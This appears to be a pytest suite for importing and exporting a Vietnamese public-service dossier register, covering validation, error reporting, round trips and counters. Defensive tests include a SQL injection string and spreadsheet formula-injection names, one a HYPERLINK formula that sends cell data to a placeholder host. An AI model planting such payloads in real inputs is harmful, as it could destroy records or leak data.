"""Register import and export (CSV/XLSX): all-or-nothing, --skip-invalid, round trip, counters."""

from __future__ import annotations

import csv
import datetime as dt
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.dialects import sqlite

from desk_app.cli import main
from desk_app.db.database import open_database
from desk_app.db.models import Dossier, DossierEvent
from desk_app.domain.errors import ValidationError
from desk_app.domain.lifecycle import EventKind, State
from desk_app.services import bulk, dossiers, register_io, register_parse, register_pass, setup
from desk_app.services.dossiers import Intake
from desk_app.services.register_io import COLUMNS
from desk_app.services.tabular import ImportRejected, write_table

T = dt.datetime
NOW = T(2026, 11, 22, 12, 0)
PROCEDURES = ("1.009645", "1.009646")


def _row(i: int, **overrides) -> dict[str, str]:
    day = dt.date(2026, 1, 5) + dt.timedelta(days=i % 300)
    row = {
        "code": "",
        "register_no": "",
        "procedure_code": PROCEDURES[i % 2],
        "applicant_name": f"Nguyễn Văn Thành {i}",
        "applicant_id": f"{79_000_000_000 + i:012d}",
        "address": "Khu công nghiệp Amata, Biên Hòa, Đồng Nai",
        "phone": f"09{i % 100_000_000:08d}",
        "email": "",
        "channel": ("counter", "postal", "online")[i % 3],
        "received_at": f"{day:%Y-%m-%d} {8 + i % 8:02d}:{i % 60:02d}",
        "due_at": "",
        "resolved_at": "",
        "returned_at": "",
        "outcome": "",
        "note": "",
    }
    row.update(overrides)
    return row


def _write(path, rows, columns=COLUMNS):
    write_table(path, columns, ([row.get(c, "") for c in columns] for row in rows))
    return path


def _count(db, model=Dossier) -> int:
    with db.read() as session:
        return session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def catalogue_db(db):
    setup.initialise(db, samples=True)
    return db


# Ten rows broken in ten different ways, with the column each one must be reported under.
BROKEN = {
    17: ("applicant_id", {"applicant_id": "12345"}),
    404: ("phone", {"phone": "12ab"}),
    1000: ("received_at", {"received_at": "2026-02-30 08:00"}),
    2222: ("procedure_code", {"procedure_code": "9.999999"}),
    3001: ("channel", {"channel": "fax"}),
    4567: ("applicant_name", {"applicant_name": "  "}),
    5000: ("email", {"email": "not-an-email"}),
    6543: ("outcome", {"outcome": "lost"}),
    8000: ("due_at", {"due_at": "2025-01-01 08:00"}),
    9998: ("received_at", {"received_at": "2027-01-01 08:00"}),  # in the future
}


def _ten_thousand(tmp_path, suffix=".csv"):
    rows = []
    for i in range(10_000):
        _column, change = BROKEN.get(i, (None, {}))
        rows.append(_row(i, **change))
    return _write(tmp_path / f"register{suffix}", rows)


def test_ten_bad_rows_among_ten_thousand_are_reported_and_nothing_is_written(
    catalogue_db, tmp_path
):
    path = _ten_thousand(tmp_path)
    with pytest.raises(ImportRejected) as caught:
        register_io.import_register(catalogue_db, path, now=NOW)
    reported = {(e.row, e.column) for e in caught.value.errors}
    assert reported == {(i + 2, column) for i, (column, _) in BROKEN.items()}  # header is row 1
    assert _count(catalogue_db) == 0 and _count(catalogue_db, DossierEvent) == 0


def test_skip_invalid_imports_the_good_rows_and_writes_the_rejects(catalogue_db, tmp_path):
    path = _ten_thousand(tmp_path)
    result = register_io.import_register(catalogue_db, path, skip_invalid=True, now=NOW)
    assert result.imported == 9_990 and _count(catalogue_db) == 9_990
    with result.rejected_file.open(encoding="utf-8-sig", newline="") as handle:
        rejects = list(csv.DictReader(handle))
    assert sorted(int(r["row"]) for r in rejects) == sorted(i + 2 for i in BROKEN)
    assert all(r["reason"] for r in rejects)
    by_row = {int(r["row"]): r for r in rejects}
    assert by_row[19]["applicant_id"] == "12345" and by_row[19]["error_column"] == "applicant_id"
    # numbers were assigned as at the counter: register numbers 1..9990 of 2026, no gap
    with catalogue_db.read() as session:
        numbers = sorted(session.scalars(select(Dossier.register_no)))
    assert numbers == list(range(1, 9_991))


def test_counter_continues_after_an_import(catalogue_db, tmp_path):
    rows = [_row(0, code="000.00.00.X99-260105-0007", register_no="41")]
    register_io.import_register(catalogue_db, _write(tmp_path / "a.csv", rows), now=NOW)
    later = dossiers.register(
        catalogue_db, Intake("1.009645", "Lê Thị Hoa", received_at=T(2026, 1, 5, 15, 0))
    )
    assert later.register_no == 42
    assert later.code == "000.00.00.X99-260105-0008"


def test_duplicates_in_the_file_and_against_the_register_are_rejected(catalogue_db, tmp_path):
    existing = dossiers.register(
        catalogue_db, Intake("1.009645", "Lê Thị Hoa", received_at=T(2026, 1, 5, 8, 0))
    )
    rows = [
        _row(0, code=existing.code),
        _row(1, register_no="1"),  # 2026 no. 1 is taken by the dossier above
        _row(2, code="000.00.00.X99-260107-0001"),
        _row(2, code="000.00.00.X99-260107-0001", applicant_name="Trần Văn Hai"),
    ]
    with pytest.raises(ImportRejected) as caught:
        register_io.import_register(catalogue_db, _write(tmp_path / "d.csv", rows), now=NOW)
    assert [(e.row, e.column) for e in caught.value.errors] == [
        (2, "code"),
        (3, "register_no"),
        (5, "code"),
    ]
    assert _count(catalogue_db) == 1


def test_a_procedure_with_a_cut_off_time_imports_as_the_counter_registers_it(
    catalogue_db, tmp_path
):
    """Same-day certification (2.000908) closes intake at 15:00: a 16:00 receipt is due the
    next working day, on import as at the counter, and the cut-off is kept on the dossier."""
    received = T(2026, 1, 5, 16, 0)
    at_counter = dossiers.register(
        catalogue_db, Intake("2.000908", "Lê Thị Hoa", received_at=received)
    )
    rows = [_row(0, procedure_code="2.000908", received_at=f"{received:%Y-%m-%d %H:%M}")]
    result = register_io.import_register(catalogue_db, _write(tmp_path / "c.csv", rows), now=NOW)
    assert result.imported == 1
    with catalogue_db.read() as session:
        imported = session.scalars(select(Dossier).where(Dossier.id != at_counter.id)).one()
        assert imported.cutoff == dt.time(15, 0)
        assert imported.due_at == at_counter.due_at > received
        assert imported.due_at.date() > received.date()


def test_digits_of_other_scripts_are_refused_with_the_column_named(catalogue_db, tmp_path):
    """Python's isdigit() and \\d accept "²" and full-width digits; a register does not."""
    rows = [
        _row(0, register_no="²"),
        _row(1, register_no="１２"),
        _row(2, received_at="２０２６-01-06 08:00"),
        _row(3, phone="０９１２３４５６７８"),
        _row(4, applicant_id="０７９２０１００１２３４"),
        _row(5, code="000.00.00.X99-２６０１１０-0001"),
    ]
    with pytest.raises(ImportRejected) as caught:
        register_io.import_register(catalogue_db, _write(tmp_path / "d.csv", rows), now=NOW)
    assert [(e.row, e.column) for e in caught.value.errors] == [
        (2, "register_no"),
        (3, "register_no"),
        (4, "received_at"),
        (5, "phone"),
        (6, "applicant_id"),
        (7, "code"),
    ]
    assert _count(catalogue_db) == 0


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_into_an_empty_database_round_trips_every_column(
    catalogue_db, tmp_path, suffix
):
    a = dossiers.register(
        catalogue_db,
        Intake(
            "1.009645",
            "Công ty TNHH Đại Phát",
            applicant_kind="organisation",
            applicant_id_no="3600123456-001",
            address='Lô 5, KCN Long Thành; "Đồng Nai", Việt Nam',
            phone="0251 3836 123",
            email="info@daiphat.vn",
            channel="online",
            note="Nhận, kiểm tra\nđủ 02 bộ",
            received_at=T(2026, 3, 2, 9, 10),
        ),
    )
    b = dossiers.register(
        catalogue_db, Intake("1.009646", "Đặng Thị Ánh", received_at=T(2026, 3, 3, 14, 5))
    )
    dossiers.apply_event(catalogue_db, b.code, "result_ready", at=T(2026, 3, 9, 10, 0))
    told = {"told_how": "sms", "told_at": T(2026, 3, 9, 10, 30)}  # an early return
    dossiers.apply_event(catalogue_db, b.code, "returned", at=T(2026, 3, 10, 8, 30), data=told)
    c = dossiers.register(
        catalogue_db, Intake("1.009645", "Phạm Văn Bình", received_at=T(2026, 3, 4, 8, 0))
    )
    dossiers.apply_event(catalogue_db, c.code, "withdrawn", at=T(2026, 3, 5, 8, 0))
    first = tmp_path / f"first{suffix}"
    assert register_io.export_register(catalogue_db, first) == 3

    other = open_database(f"sqlite:///{tmp_path / 'copy.sqlite3'}")  # an empty database
    setup.initialise(other, samples=True)
    assert register_io.import_register(other, first, now=NOW).imported == 3
    second = tmp_path / f"second{suffix}"
    register_io.export_register(other, second)
    assert _read(first) == _read(second)
    with other.read() as session:
        states = dict(session.execute(select(Dossier.code, Dossier.state)).all())
    assert states == {
        a.code: State.RECEIVED.value,
        b.code: State.RETURNED.value,
        c.code: State.WITHDRAWN.value,
    }
    assert _histories(other) == _histories(catalogue_db)
    assert _histories(other)[b.code] == [
        ("received", T(2026, 3, 3, 14, 5)),
        ("result_ready", T(2026, 3, 9, 10, 0)),
        ("returned", T(2026, 3, 10, 8, 30)),
    ]


def _histories(db) -> dict[str, list[tuple[str, dt.datetime]]]:
    """Each dossier's events (kind, moment) in the order the desk shows them."""
    with db.read() as session:
        found: dict[str, list[tuple[str, dt.datetime]]] = {}
        for code, kind, at in session.execute(
            select(Dossier.code, DossierEvent.kind, DossierEvent.at)
            .join(DossierEvent.dossier)
            .order_by(Dossier.code, DossierEvent.at, DossierEvent.id)
        ):
            found.setdefault(code, []).append((kind, at))
        return found


def test_imported_history_keeps_its_order_when_moments_coincide(catalogue_db, tmp_path):
    """Result ready and returned in the same minute: ready comes first, as it happened."""
    moment = "2026-01-20 10:00"
    rows = [
        _row(0, resolved_at=moment, returned_at=moment, outcome="returned"),
        _row(1, resolved_at=moment, outcome="refused"),
        _row(2, resolved_at=moment),
        _row(3),
    ]
    register_io.import_register(catalogue_db, _write(tmp_path / "h.csv", rows), now=NOW)
    kinds = [
        [kind for kind, _at in events] for _code, events in sorted(_histories(catalogue_db).items())
    ]
    assert sorted(kinds) == sorted(
        [
            ["received", "result_ready", "returned"],
            ["received", "refused"],
            ["received", "result_ready"],
            ["received"],
        ]
    )
    with catalogue_db.read() as session:
        notes = set(
            session.scalars(select(DossierEvent.note).where(DossierEvent.kind == "received"))
        )
        data = set(map(str, session.scalars(select(DossierEvent.data))))
    assert notes == {"Nhập từ tệp h.csv"} and data == {str({"source": "import"})}


def test_runs_of_consecutive_ids():
    assert register_io._runs([8, 1, 2, 3, 7]) == [(1, 3), (7, 8)]
    assert register_io._runs([5]) == [(5, 5)] and register_io._runs([]) == []
    assert (
        register_io._runs(range(4, 10**9)) == [(4, 10**9 - 1)]
        and register_io._runs(range(3, 3)) == []
    )


def _read(path):
    from desk_app.services.tabular import read_table

    return read_table(path, register_io.ALIASES, ()).rows


def test_vietnamese_headers_and_words_are_accepted(catalogue_db, tmp_path):
    header = (
        "Mã hồ sơ",
        "Số thứ tự",
        "Mã TTHC",
        "Tên tổ chức, cá nhân",
        "Số CCCD/MST",
        "Địa chỉ",
        "SĐT",
        "Kênh nộp",
        "Ngày tiếp nhận",
        "Ngày hẹn trả",
        "Ngày trả kết quả",
        "Kết quả",
    )
    path = tmp_path / "so-theo-doi.xlsx"
    write_table(
        path,
        header,
        [
            (
                "",
                "",
                "1.009645",
                "Nguyễn Thị Mai",
                "079123456789",
                "Biên Hòa",
                "+84 912 345 678",
                "Bưu chính",
                T(2026, 2, 2, 9, 0),
                "2026-02-26 09:00",
                "2026-02-25 15:00",
                "Đã trả",
            )
        ],
    )
    assert register_io.import_register(catalogue_db, path, now=NOW).imported == 1
    with catalogue_db.read() as session:
        dossier = session.scalars(select(Dossier)).one()
        kinds = [e.kind for e in dossier.events]
    assert (dossier.channel, dossier.phone, dossier.outcome) == ("postal", "0912345678", "returned")
    assert dossier.due_at == T(2026, 2, 26, 9, 0) and dossier.due_fixed
    assert kinds == [EventKind.RECEIVED, EventKind.RESULT_READY, EventKind.RETURNED]


def test_an_imported_due_moment_is_kept_until_the_desk_moves_the_clock(catalogue_db, tmp_path):
    rows = [_row(0, received_at="2026-11-02 09:00", due_at="2026-11-30 17:00")]
    register_io.import_register(catalogue_db, _write(tmp_path / "f.csv", rows), now=NOW)
    from desk_app.services import calendar_service

    with catalogue_db.write() as session:
        calendar_service.recompute_open_dossiers(session, calendar_service.calendar_for(session))
        dossier = session.scalars(select(Dossier)).one()
        assert dossier.due_at == T(2026, 11, 30, 17, 0)
        code = dossier.code
    dossiers.apply_event(catalogue_db, code, "handed_over", at=T(2026, 11, 3, 8, 0))
    assert _due(catalogue_db) == T(2026, 11, 30, 17, 0)
    dossiers.apply_event(catalogue_db, code, "supplement_requested", at=T(2026, 11, 4, 8, 0))
    dossiers.apply_event(catalogue_db, code, "supplement_received", at=T(2026, 11, 5, 8, 0))
    assert _due(catalogue_db) != T(2026, 11, 30, 17, 0)  # the desk's own clock now


def _due(db):
    with db.read() as session:
        return session.scalars(select(Dossier.due_at)).one()


def test_bad_files_get_one_clear_message(catalogue_db, tmp_path, monkeypatch):
    unknown = tmp_path / "u.csv"
    unknown.write_text("code,applicant_name,procedure_code,received_at,colour\n", "utf-8")
    with pytest.raises(ValidationError, match="cột không rõ «colour»"):
        register_io.import_register(catalogue_db, unknown)
    legacy = tmp_path / "l.csv"
    legacy.write_bytes("code,Tên\n".encode("cp1258"))  # an old Windows code page
    with pytest.raises(ValidationError, match="UTF-8"):
        register_io.import_register(catalogue_db, legacy)
    fake = tmp_path / "fake.xlsx"
    fake.write_text("not a workbook", "utf-8")
    with pytest.raises(ValidationError, match="không đọc được tệp Excel"):
        register_io.import_register(catalogue_db, fake)
    monkeypatch.setattr(register_pass, "PIECE", 5)
    late = _write(tmp_path / "late.csv", [_row(i) for i in range(15)])
    late.write_bytes(late.read_bytes() + b"\xff\xfe,\n")  # not UTF-8, past the first piece
    with pytest.raises(ValidationError, match="UTF-8"):
        register_io.import_register(catalogue_db, late)
    huge = tmp_path / "huge.csv"
    huge.write_text('procedure_code,applicant_name,received_at\n1,2,3\n1,"' + "x" * 200_000)
    with pytest.raises(ValidationError, match="tệp CSV hỏng ở dòng 3"):
        register_io.import_register(catalogue_db, huge)
    assert _count(catalogue_db) == 0


def test_cli_import_export_errors_are_one_line_each_with_status_2(tmp_path, capsys):
    assert main(["init", "--samples"]) == 0
    bad = _write(tmp_path / "bad.csv", [_row(0), _row(1, phone="x1"), _row(2, channel="fax")])
    capsys.readouterr()
    assert main(["import", str(bad)]) == 2
    captured = capsys.readouterr()
    out, err = captured.out.strip().splitlines(), captured.err.strip().splitlines()
    assert out[0].startswith("dòng 3, cột phone:")  # every bad row, as the output
    assert out[1].startswith("dòng 4, cột channel:") and len(out) == 2
    assert len(err) == 1 and "2 dòng không hợp lệ" in err[0]  # the refusal: one line
    assert main(["import", str(bad), "--skip-invalid"]) == 0
    assert "Đã nhập 1 hồ sơ" in capsys.readouterr().out
    for argv in (
        ["import", str(tmp_path / "missing.csv")],
        ["import", str(tmp_path / "register.txt")],
        ["export", str(tmp_path / "out.pdf")],
        ["export", str(tmp_path / "no-such-folder" / "out.csv")],
    ):
        assert main(argv) == 2, argv
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and "lỗi" in err[0], argv
    out = tmp_path / "out.xlsx"
    assert main(["export", str(out)]) == 0 and out.exists()


def test_random_garbage_never_raises_anything_but_a_clear_rejection(catalogue_db, tmp_path):
    rng = random.Random(7)
    alphabet = "0123456789-: /aăâđêôơưAĐ\t;,\"'"
    rows = [
        {c: "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 14))) for c in COLUMNS}
        for _ in range(300)
    ]
    with pytest.raises(ImportRejected) as caught:
        register_io.import_register(catalogue_db, _write(tmp_path / "g.csv", rows), now=NOW)
    assert len(caught.value.errors) == 300
    assert _count(catalogue_db) == 0


def _table(tmp_path, rows):
    from desk_app.services.tabular import read_table

    return read_table(_write(tmp_path / "t.csv", rows), register_io.ALIASES, ())


# Valid values in every form the row parser accepts, to check that the column-wise parser reads
# them exactly as it does (text to normalise, other phone and time forms, words for channels).
VARIED = [
    {"applicant_name": "Nguye\u0302\u0303n  Văn\tAn"},  # decomposed marks, odd spaces
    {"applicant_name": "Công ty TNHH Đại Phát", "applicant_id": ""},  # organisation by name
    {"applicant_id": "3600123456-001"},  # a branch's tax code
    {"applicant_id": "3600 123 456"},
    {"applicant_id": " 079 201 001 234"},
    {"phone": "+84 912 345 678"},
    {"phone": "(0251) 3836.123"},
    {"email": "hoa@example.vn"},
    {"channel": "Trực tuyến"},
    {"channel": "Qua bưu chính"},
    {"channel": ""},
    {"received_at": "2026-1-6 7:45"},
    {"received_at": "2026-01-06T09:15:30"},
    {"code": "000.00.00.h00-260110-0003", "received_at": "2026-01-10 09:00"},
    {"register_no": "77"},
    {"due_at": "2026-03-01 17:00"},
    {"resolved_at": "2026-02-10 10:00", "outcome": "Từ chối"},
    {"resolved_at": "2026-02-10 10:00"},
    {"returned_at": "2026-02-11 10:00"},
    {"resolved_at": "2026-02-10 10:00", "returned_at": "2026-02-11 10:00", "outcome": "Đã trả"},
    {"address": ("Khu công nghiệp " * 40)[:500]},  # the longest address allowed
    {"note": "Ghi  chú\u00a0thêm"},
    {"procedure_code": "1.009645 "},
]


def test_the_column_parser_reads_every_value_as_the_row_parser_does(tmp_path):
    rows = [_row(i, **change) for i, change in enumerate(VARIED)]
    rows += [_row(i) for i in range(len(VARIED), 200)]
    table = _table(tmp_path, rows)
    by_rows, errors = register_parse._parse_rows(table.rows, NOW)
    assert errors == [] and len(by_rows) == 200
    assert register_parse._parse_columns(table, NOW) == by_rows
    # and the values really were normalised, not passed through
    assert by_rows[0].values[1] == "Nguyễn Văn An" and by_rows[5].values[5] == "0912345678"


# One bad value, and the column it must be reported under.
ONE_BAD = [
    ("code", {"code": "H00-260303-0001"}),  # row 57 is received on 3 March 2026
    ("code", {"code": "000.00.00.X99-260101-0001"}),  # not the day of receipt
    ("register_no", {"register_no": "0"}),
    ("register_no", {"register_no": "²"}),
    ("procedure_code", {"procedure_code": ""}),
    ("applicant_name", {"applicant_name": "12345"}),
    ("applicant_name", {"applicant_name": "A" * 301}),
    ("applicant_id", {"applicant_id": "０７９２０１００１２３４"}),
    ("applicant_id", {"applicant_id": "3600123456-01"}),
    ("phone", {"phone": "0812"}),
    ("email", {"email": "hoa@"}),
    ("channel", {"channel": "fax"}),
    ("received_at", {"received_at": ""}),
    ("received_at", {"received_at": "2026-01-06 25:00"}),
    ("received_at", {"received_at": "2026-12-01 08:00"}),  # after NOW
    ("due_at", {"due_at": "2025-01-01 08:00"}),
    ("resolved_at", {"outcome": "refused"}),
    ("returned_at", {"outcome": "returned"}),
    ("returned_at", {"resolved_at": "2026-11-20 10:00", "returned_at": "2026-11-19 10:00"}),
    ("outcome", {"outcome": "lost"}),
]


@pytest.mark.parametrize(("column", "change"), ONE_BAD, ids=[str(c) for _, c in ONE_BAD])
def test_one_bad_value_among_clean_rows_is_reported_by_row_and_column(tmp_path, column, change):
    rows = [_row(i, **(change if i == 57 else {})) for i in range(120)]
    table = _table(tmp_path, rows)
    with pytest.raises(register_parse._Unclean):
        register_parse._parse_columns(table, NOW)
    good, errors = register_parse._parse_all(table, NOW)
    assert [(e.row, e.column) for e in errors] == [(59, column)] and len(good) == 119


def test_the_same_code_or_number_twice_in_a_file_is_reported_on_the_second(tmp_path):
    twice = {"code": "000.00.00.X99-260115-0001", "received_at": "2026-01-15 08:00"}
    rows = [_row(i) for i in range(20)]
    rows[3].update(twice)
    rows[9].update(twice)
    rows[12].update(register_no="5")
    rows[15].update(register_no="5")
    table = _table(tmp_path, rows)
    _good, errors = register_parse._parse_all(table, NOW)
    assert [(e.row, e.column) for e in errors] == [(11, "code"), (17, "register_no")]


def test_blank_rows_and_lines_before_the_header_keep_the_spreadsheet_row_numbers(tmp_path):
    path = tmp_path / "b.csv"
    lines = [",".join(COLUMNS)] + [",".join(_row(i).get(c, "") for c in COLUMNS) for i in (0, 1)]
    from desk_app.services.tabular import read_table

    # a blank row as wide as the header (the fast reader), and a short one (the row reader)
    for blank in ("," * (len(COLUMNS) - 1), ",,,"):
        path.write_text(f"\n{lines[0]}\n{lines[1]}\n{blank}\n{lines[2]}\n", "utf-8")
        table = read_table(path, register_io.ALIASES, ())
        assert table.numbers == [3, 5]
        assert [cells["applicant_name"] for _n, cells in table.rows] == [
            "Nguyễn Văn Thành 0",
            "Nguyễn Văn Thành 1",
        ]


@given(st.lists(st.datetimes(), max_size=30))
def test_bulk_moments_are_stored_as_sqlalchemy_stores_them(moments):
    # The import writes moment texts itself; SQLAlchemy compares them with the texts it binds.
    store = sqlite.DATETIME().bind_processor(sqlite.dialect())
    assert bulk.sqlite_moments(moments) == [store(m) for m in moments]


def test_a_workbook_as_typed_in_excel_keeps_its_row_numbers_and_values(catalogue_db, tmp_path):
    """Numbers typed as numbers, moments as date cells, blank rows above the header and between
    the dossiers: cells read as the register shows them, rows numbered as the sheet numbers
    them."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append([])
    sheet.append([])
    sheet.append(["register_no", "procedure_code", "applicant_name", "phone", "received_at"])
    sheet.append([7, "1.009645", "Nguyễn Thị Mai", "0912345678", T(2026, 2, 2, 9, 0)])
    sheet.append([])
    sheet.append([8.0, "1.009646", "Trần Văn Hai", "0912 345 679", T(2026, 2, 3, 14, 30)])
    sheet.append([9, "1.009646", "Lê Văn Ba", "12ab", T(2026, 2, 4, 8, 0)])
    path = tmp_path / "so.xlsx"
    book.save(path)
    with pytest.raises(ImportRejected) as caught:
        register_io.import_register(catalogue_db, path, now=NOW)
    assert [(e.row, e.column) for e in caught.value.errors] == [(7, "phone")]
    sheet.delete_rows(7)
    book.save(path)
    assert register_io.import_register(catalogue_db, path, now=NOW).imported == 2
    with catalogue_db.read() as session:
        found = session.execute(
            select(Dossier.register_no, Dossier.phone, Dossier.received_at).order_by(Dossier.id)
        ).all()
    assert found == [
        (7, "0912345678", T(2026, 2, 2, 9, 0)),
        (8, "0912345679", T(2026, 2, 3, 14, 30)),
    ]


def test_a_value_shared_by_every_row_is_stored_as_it_is(catalogue_db, tmp_path):
    """A column with one value in every row goes into the insert statement as text (see
    bulk.insert_columns): quotes and SQL in it stay data."""
    note = "Ông O'Brien nộp thay; '); DROP TABLE dossiers; --"
    rows = [_row(i, note=note, email="a'b@example.vn") for i in range(3)]
    imported = register_io.import_register(catalogue_db, _write(tmp_path / "q.csv", rows), now=NOW)
    assert imported.imported == 3
    with catalogue_db.read() as session:
        stored = session.execute(select(Dossier.note, Dossier.email, Dossier.sets_count)).all()
    assert stored == [(note, "a'b@example.vn", 1)] * 3


def _indexes(db) -> dict[str, list[tuple]]:
    from sqlalchemy import inspect

    found = inspect(db.engine)
    return {
        table: sorted(
            (i["name"], tuple(i["column_names"]), i["unique"]) for i in found.get_indexes(table)
        )
        for table in ("dossiers", "dossier_events")
    }


def test_an_import_that_doubles_the_register_keeps_every_index(catalogue_db, tmp_path):
    """On SQLite such an import drops the plain indexes and builds them again after loading
    (bulk.indexes_rebuilt_after): the search screens depend on every one being back."""
    before = _indexes(catalogue_db)
    assert len(before["dossiers"]) >= 10 and before["dossier_events"]
    rows = [_row(i) for i in range(1_200)]
    imported = register_io.import_register(catalogue_db, _write(tmp_path / "a.csv", rows), now=NOW)
    assert imported.imported == 1_200
    assert _indexes(catalogue_db) == before


def test_an_import_that_fails_after_loading_leaves_the_register_and_its_indexes(
    catalogue_db, tmp_path, monkeypatch
):
    before = _indexes(catalogue_db)

    def broken(*args, **kwargs):
        raise RuntimeError("disk gone")

    monkeypatch.setattr(register_io.audit, "record", broken)  # the last step of the import
    rows = [_row(i) for i in range(1_200)]
    with pytest.raises(RuntimeError):
        register_io.import_register(catalogue_db, _write(tmp_path / "a.csv", rows), now=NOW)
    assert _count(catalogue_db) == 0 and _count(catalogue_db, DossierEvent) == 0
    assert _indexes(catalogue_db) == before


@pytest.mark.parametrize(
    ("existing", "adding", "rebuilt"),
    [(0, 999, False), (0, 1_000, True), (1_500, 1_500, True), (1_501, 1_500, False)],
)
def test_indexes_are_rebuilt_only_when_the_load_at_least_doubles_the_table(
    existing, adding, rebuilt
):
    """The rule of bulk.indexes_rebuilt_after, at its edges (its count of the table stops
    just past ``adding``)."""
    from sqlalchemy import Column, Index, Integer, MetaData, Table, create_engine, inspect

    table = Table("t", MetaData(), Column("id", Integer, primary_key=True), Column("v", Integer))
    Index("ix_t_v", table.c.v)
    engine = create_engine("sqlite://")
    with engine.begin() as connection:
        table.create(connection)
        if existing:
            connection.execute(table.insert(), [{"v": i} for i in range(existing)])
        with bulk.indexes_rebuilt_after(connection, table, adding):
            inside = [i["name"] for i in inspect(connection).get_indexes("t")]
        after = [i["name"] for i in inspect(connection).get_indexes("t")]
    assert inside == ([] if rebuilt else ["ix_t_v"])
    assert after == ["ix_t_v"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_applicant_named_like_a_formula_is_exported_as_text_and_read_back(
    catalogue_db, tmp_path, suffix
):
    from openpyxl import load_workbook

    hostile = [
        '=HYPERLINK("http://x.example/?"&D3,"Xem")',
        "+84 912 345 678 Nguyễn",
        "-Lê Văn A",
        "@SUM(A1:A9) Trần",
    ]
    rows = [_row(i, applicant_name=name) for i, name in enumerate(hostile)]
    register_io.import_register(catalogue_db, _write(tmp_path / "in.csv", rows), now=NOW)
    out = tmp_path / f"out{suffix}"
    register_io.export_register(catalogue_db, out)
    if suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as handle:
            cells = [row[3] for row in list(csv.reader(handle))[1:]]
        assert sorted(cells) == sorted(f"'{name}" for name in hostile)  # no cell starts a formula
    else:
        sheet = load_workbook(out).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.column == 4]
        assert {c.value for c in cells} == set(hostile)
        assert {c.data_type for c in cells} == {"s"}  # text, never a formula
    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite3'}")
    setup.initialise(other, samples=True)
    register_io.import_register(other, out, now=NOW)  # the export reads back as it was
    with other.read() as session:
        names = set(session.scalars(select(Dossier.applicant_name)))
    other.dispose()
    assert names == set(hostile)


@pytest.mark.parametrize(
    ("column", "value", "words"),
    [
        ("applicant_name", "Nguyễn\x00Văn A", "ký tự điều khiển"),
        ("note", "ghi chú\x1b[31m", "ký tự điều khiển"),
        ("address", "Biên Hòa\x07", "ký tự điều khiển"),
        ("address", "x" * 501, "quá dài"),
        ("note", "x" * 2001, "quá dài"),
    ],
)
def test_control_characters_and_overlong_text_are_refused_by_row_and_column(
    catalogue_db, tmp_path, column, value, words
):
    rows = [_row(i) for i in range(30)]
    rows[17][column] = value
    with pytest.raises(ImportRejected) as rejected:
        register_io.import_register(catalogue_db, _write(tmp_path / "bad.csv", rows), now=NOW)
    (error,) = rejected.value.errors
    assert error.row == 19 and error.column == column and words in error.reason
    assert _count(catalogue_db) == 0


def test_an_imported_last_code_of_the_day_does_not_stop_the_counter(catalogue_db, tmp_path):
    """A file brings the code ...-9999 for a day: the counter keeps registering that day, with
    the first number nobody has (issue 20)."""
    rows = [
        _row(0, code="000.00.00.X99-261102-9999", received_at="2026-11-02 09:00"),
        _row(1, code="000.00.00.X99-261102-0001", received_at="2026-11-02 09:05"),
    ]
    register_io.import_register(catalogue_db, _write(tmp_path / "last.csv", rows), now=NOW)
    at = T(2026, 11, 2, 15, 0)
    first = dossiers.register(catalogue_db, Intake("1.009645", "Sau", received_at=at))
    second = dossiers.register(catalogue_db, Intake("1.009645", "Sau nữa", received_at=at))
    assert (first.code, second.code) == ("000.00.00.X99-261102-0002", "000.00.00.X99-261102-0003")


def test_an_import_numbers_nothing_while_the_unit_is_the_placeholder(catalogue_db, tmp_path):
    """Decree 118/2025 Art. 28: codes carry the agency's identifier; a new installation's
    placeholder 000.00.00.H00 is refused before anything is written."""
    from desk_app.services import agency

    agency.update_settings(catalogue_db, unit_code="000.00.00.H00")
    path = _write(tmp_path / "register.csv", [_row(0), _row(1)])
    with pytest.raises(ValidationError, match="Chưa đặt mã định danh"):
        register_io.import_register(catalogue_db, path, now=NOW)
    assert _count(catalogue_db) == 0
    agency.update_settings(catalogue_db, unit_code="000.17.22.H56")
    assert register_io.import_register(catalogue_db, path, now=NOW).imported == 2


def _stored(db) -> dict[str, tuple]:
    with db.read() as session:
        rows = session.execute(
            select(
                Dossier.applicant_name,
                Dossier.code,
                Dossier.register_no,
                Dossier.due_at,
                Dossier.state,
            )
        )
        return {name: tuple(rest) for name, *rest in rows}


def test_a_file_read_in_pieces_imports_as_one_file(catalogue_db, tmp_path, monkeypatch):
    """Duplicates and refusals in later pieces of the file, numbering across the pieces: the
    same register as when the file is read whole."""
    existing = dossiers.register(
        catalogue_db, Intake("1.009645", "Lê Thị Hoa", received_at=T(2026, 1, 6, 8, 0))
    )
    rows = [_row(i) for i in range(40)]
    rows[3]["code"] = rows[30]["code"] = "000.00.00.X99-260108-0005"
    rows[30]["received_at"] = rows[3]["received_at"]
    rows[5]["register_no"] = rows[25]["register_no"] = "100"
    rows[20]["phone"] = "12ab"
    rows[38]["code"], rows[38]["received_at"] = existing.code, "2026-01-06 09:00"
    path = _write(tmp_path / "r.csv", rows)
    whole = open_database(f"sqlite:///{tmp_path / 'whole.sqlite3'}")
    setup.initialise(whole, samples=True)
    dossiers.register(whole, Intake("1.009645", "Lê Thị Hoa", received_at=T(2026, 1, 6, 8, 0)))

    monkeypatch.setattr(register_pass, "PIECE", 7)
    result = register_io.import_register(catalogue_db, path, skip_invalid=True, now=NOW)
    assert result.imported == 36
    assert [(e.row, e.column) for e in result.rejected] == [
        (22, "phone"),
        (27, "register_no"),
        (32, "code"),
        (40, "code"),
    ]
    with result.rejected_file.open(encoding="utf-8-sig", newline="") as handle:
        rejects = {int(r["row"]): r for r in csv.DictReader(handle)}
    assert rejects[22]["phone"] == "12ab" and rejects[40]["code"] == existing.code
    assert rejects[32]["applicant_name"] == "Nguyễn Văn Thành 30"

    monkeypatch.setattr(register_pass, "PIECE", 10_000)
    assert register_io.import_register(whole, path, skip_invalid=True, now=NOW).imported == 36
    pieces = _stored(catalogue_db)
    assert pieces == _stored(whole)
